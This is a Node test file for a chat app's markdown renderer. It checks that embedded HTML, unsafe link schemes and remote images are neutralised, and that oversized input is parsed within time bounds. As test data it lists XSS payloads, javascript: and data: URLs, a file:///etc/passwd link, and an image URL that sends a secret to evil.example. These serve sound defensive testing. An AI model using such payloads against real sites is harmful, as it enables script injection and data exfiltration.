import assert from 'node:assert/strict';
import { test } from 'node:test';
import { blocksOf, bounded, htmlOf, LIMITS, read, safeHref } from '../static/app/chat/markdown.js';

const html = (text) => blocksOf(bounded(text).text).map((block) => htmlOf(block.tokens)).join('');

test('HTML in markdown stays text', () => {
  const value = '<img src=x onerror=window.__pwned=1><svg/onload=window.__pwned=1>';
  for (const text of [value, `a ${value} b`, `**${value}**`, `[${value}](https://a.b)`, `| ${value} |\n|-|\n| ${value} |`, `# ${value}`, `- ${value}`, `> ${value}`, '<base href=//evil><meta http-equiv=refresh content=0><form action=//evil><style>*{}</style>', '`' + value + '`', '```' + `\n${value}\n` + '```']) {
    assert.doesNotMatch(html(text), /<(img|svg|base|meta|form|style|script|iframe)/i, text);
  }
  assert.match(html('a<br>b <kbd>x</kbd>'), /<br>.*<kbd>/);
  assert.doesNotMatch(html('<kbd onclick=1>'), /<kbd/);
});

test('only harmless schemes become links, and they open apart', () => {
  for (const bad of ['javascript:window.__pwned=1', 'java\nscript:window.__pwned=1', 'JaVaScRiPt:1', ' javascript:1', '\u0001javascript:1', 'data:text/html,<script>parent.__pwned=1</script>', 'vbscript:x', 'file:///etc/passwd', 'blob:x', 'about:blank', '//evil.example', '/api/quit', '#/settings']) {
    assert.equal(safeHref(bad), null, bad);
    assert.doesNotMatch(html(`[x](<${bad.replace(/[\n]/g, '')}>) [y](${bad}) <${bad}>`), /href="(?!https?:|mailto:)/i, bad);
  }
  assert.match(html('[x](https://a.b/?q=1&r=2)'), /href="https:\/\/a\.b\/\?q=1&amp;r=2" target="_blank" rel="noopener noreferrer"/);
  assert.match(html('https://auto.example'), /rel="noopener noreferrer"/);
  assert.match(html('[x][1]\n\n[1]: javascript:1'), /^<p>x /);
});

test('no image is loaded from elsewhere', () => {
  for (const text of ['![x](https://evil.example/?d=SECRET)', '![x][1]\n\n[1]: https://evil.example/i.png', '![x](//evil.example/i.png)', '![x](data:image/svg+xml;base64,AAAA)', '![x](blob:abc)', '![x](api/status)']) assert.doesNotMatch(html(text), /<img/, text);
  assert.match(html('![x](data:image/png;base64,AAAA)'), /<img src="data:image\/png/);
});

test('huge and hostile input is bounded in time', () => {
  const inputs = {
    line: 'a'.repeat(1 << 20), items: Array.from({ length: 10_000 }, (_, i) => `- item ${i}`).join('\n'), quotes: '>'.repeat(500), spaced: '> '.repeat(500), stairs: Array.from({ length: 500 }, (_, i) => `${'>'.repeat(i)} x`).join('\n'),
    indents: Array.from({ length: 500 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n'), markers: '- '.repeat(5_000), brackets: Array(20).fill('['.repeat(9_000)).join('\n\n'), stars: Array(20).fill('*a_ '.repeat(2_000)).join('\n\n'),
    less: Array(20).fill('<'.repeat(7_900)).join('\n\n'), table: `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(20_000)}`, wide: `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}\n|${'b|'.repeat(5_000)}`, ticks: Array(20).fill('`a``'.repeat(1_900)).join('\n\n'), tildes: Array(20).fill('~~a'.repeat(2_600)).join('\n\n'),
  };
  html('warm *up*');
  for (const [name, text] of Object.entries(inputs)) {
    // What this process itself took: how busy the machine is says nothing of the text.
    const start = process.cpuUsage();
    html(text);
    const { user, system } = process.cpuUsage(start);
    const took = (user + system) / 1_000;
    assert.ok(took < 400, `${name}: ${Math.round(took)} ms`);
  }
  assert.ok(bounded(inputs.items).rest.length > 0);
  assert.equal(bounded(inputs.line).text.length, LIMITS.text);
  const { text, rest } = bounded(inputs.items);
  assert.equal(text + rest, inputs.items);
});

test('a text that grows is read like the whole', () => {
  const whole = '# Title\n\nOne *two*\n\n- a\n- b\n\n  c\n\n[x]: https://example.org\n\n> quote\n\n```js\nconst a = 1;\n```\n\n|a|b|\n|-|-|\n|1|2|\n\nSetext\n===\n\nsee [x], and\r\nthe end';
  let reading = null;
  for (let end = 1; end <= whole.length; end++) {
    reading = read(whole.slice(0, end), reading);
    assert.equal(htmlOf(reading.blocks.flatMap((block) => block.tokens)), htmlOf(blocksOf(whole.slice(0, end)).flatMap((block) => block.tokens)), JSON.stringify(whole.slice(0, end)));
  }
});
